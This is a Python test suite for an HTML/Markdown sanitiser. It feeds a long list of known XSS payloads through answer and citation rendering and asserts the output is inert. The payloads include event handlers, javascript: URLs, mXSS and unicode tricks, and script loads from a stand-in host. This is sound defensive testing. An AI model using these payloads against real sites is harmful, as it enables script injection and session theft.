"""Hostile answers: known XSS payloads through Markdown, raw HTML, citation
fields and link targets must never reach the page in an executable form.

The output is parsed with html.parser and every tag, attribute and URL is
checked against what the sanitiser may emit — not just searched for strings."""

from __future__ import annotations

import html as html_lib
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.citations.rendering import ALLOWED_TAGS, CitationView, render_answer, sanitize_html

PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1);//<</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=# onmouseover=alert(1)>",
    "<body onload=alert(1)>",
    "<div onpointerenter=alert(1)>hover</div>",
    "<b/onclick=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    # SVG / MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    # javascript: / data: / vbscript: links (Markdown and raw HTML)
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![img](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # style / CSS expressions
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # embedding
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # htmx attributes
    '<div hx-get="/admin/" hx-trigger="load">x</div>',
    '<a hx-on:click="alert(1)" href="/x">x</a>',
    '<div data-hx-post="/logout" data-hx-trigger="load">x</div>',
    '<p hx-on::load="alert(1)">x</p>',
    "<div hx-vals='js:{a: alert(1)}'>x</div>",
    # template tricks
    "<template><script>alert(1)</script></template>",
    "{{ request.user.password }} {% debug %}",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # mXSS / broken nesting
    '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "<table><td><a><table><td><img src=x onerror=alert(1)>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<a href="https://ok.example" onclick="alert(1)" id="cite-popover" class="cite">x</a>',
    # unicode tricks
    "<ſcript>alert(1)</ſcript>",
    "<img src=x\x0conerror=alert(1)>",
    '<a href="java\x00script:alert(1)">x</a>',
    "[click](\u200bjavascript:alert(1))",
    "<a href='\ufeffjavascript:alert(1)'>x</a>",
    '<a href="\uff4aavascript:alert(1)">x</a>',
    # inside code (must stay text) and next to citations
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>` [c1]",
    "[c1]<img src=x onerror=alert(1)>[c2]",
]

URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
PLAIN_ATTRS = {"href", "title", "rel", "start", "align", "class"}
CITE_ATTRS = {
    "class", "href", "tabindex", "aria-describedby",
    "data-cid", "data-excerpt", "data-status", "data-status-label", "data-tone", "data-source",
    "data-support", "data-support-label", "data-support-tone", "data-support-reason",
}  # fmt: skip


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def scheme_of(url: str) -> str:
    """The scheme a browser would see (WHATWG URL parsing): leading and
    trailing C0 controls and spaces trimmed, tabs and newlines removed
    anywhere. A zero-width space or BOM before "javascript:" makes a
    harmless relative URL, so those are not stripped here."""
    trimmed = re.sub(r"^[\x00-\x20]+|[\x00-\x20]+$", "", html_lib.unescape(url))
    cleaned = re.sub(r"[\t\n\r]", "", trimmed).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return match[1] if match else ""


def assert_inert(output: str) -> None:
    collector = Collector()
    collector.feed(output)
    collector.close()
    assert collector.comments == []
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, tag
        is_cite = "cite" in attrs.get("class", "").split()
        assert set(attrs) <= (CITE_ATTRS if is_cite else PLAIN_ATTRS), attrs
        if is_cite:  # only the links render_answer inserts carry the class
            assert attrs.get("data-cid") in {"c1", "c2"}, attrs
        for name, value in attrs.items():
            assert not name.startswith(("on", "hx-", "data-hx")) and name != "style"
            if name in URL_ATTRS:
                assert scheme_of(value) in {"", "http", "https", "mailto"}, value
        if not is_cite and "class" in attrs:
            assert tag in {"span", "div"}, (tag, attrs)


CITATIONS = {
    "c1": CitationView(cid="c1", label="notes/a.md:1-2", excerpt="ok", status="verified", path="x/a.md"),
    "c2": CitationView(
        cid="c2", label="notes/b.md:3", excerpt="ok", status="excerpt_mismatch", path="x/b.md"
    ),
}


def test_payload_list_is_long_enough() -> None:
    """The suite covers at least 50 distinct known payloads."""
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_answer_is_inert(payload: str) -> None:
    """Each payload, alone and in the middle of a cited answer, renders inert."""
    for text in (payload, f"Claim [c1].\n\n{payload}\n\nMore [c2] {payload} end."):
        output = render_answer(text, CITATIONS, link_for=lambda v: f"/files/{v.path}")
        assert_inert(output)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_citation_fields_is_inert(payload: str) -> None:
    """Payloads in excerpt, label, status and link target stay attribute text."""
    hostile = CitationView(cid="c1", label=payload, excerpt=payload, status=payload, status_label=payload)
    output = render_answer("See [c1].", {"c1": hostile}, link_for=lambda v: payload)
    assert_inert(output)
    collector = Collector()
    collector.feed(output)
    (cite,) = [attrs for tag, attrs in collector.tags if tag in {"a", "span"}]
    assert cite["data-excerpt"] == payload[:500]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitize_html_is_stable(payload: str) -> None:
    """Sanitising twice changes nothing (no mutation left for a re-parse)."""
    once = sanitize_html(payload)
    assert sanitize_html(once) == once
    assert_inert(once)


@pytest.mark.parametrize(
    "bad",
    [
        "<script>x</script>",
        '<a href="java&#x09;script:x">x</a>',
        '<img src="x" onerror="x">',
        '<div hx-get="/x">x</div>',
        '<span class="cite">x</span>',
    ],
)
def test_checker_catches_executable_vectors(bad: str) -> None:
    """The inertness check itself fails on unsanitised vectors."""
    with pytest.raises(AssertionError):
        assert_inert(bad)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/\"'=:&#;`[]()! \n-*abcjsvgonimrept1c")), max_size=120))
def test_random_markup_is_inert(text: str) -> None:
    """Random fragments of markup characters never render executable HTML."""
    assert_inert(render_answer(text, CITATIONS, link_for=lambda v: f"/files/{v.path}"))
